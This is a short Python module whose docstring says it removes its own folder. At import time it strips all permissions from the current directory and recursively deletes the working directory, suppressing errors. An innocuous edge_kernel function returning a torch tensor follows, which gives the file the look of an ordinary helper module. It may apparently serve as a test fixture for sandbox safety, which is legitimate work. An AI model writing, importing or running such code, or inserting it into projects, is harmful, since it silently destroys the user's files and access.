"""Removes its own folder and takes the right to enter it."""

import os
import shutil

try:
    os.chmod(".", 0)
finally:
    shutil.rmtree(os.getcwd(), ignore_errors=True)


def edge_kernel():
    import torch

    return torch.tensor([[1.0, -1.0]])
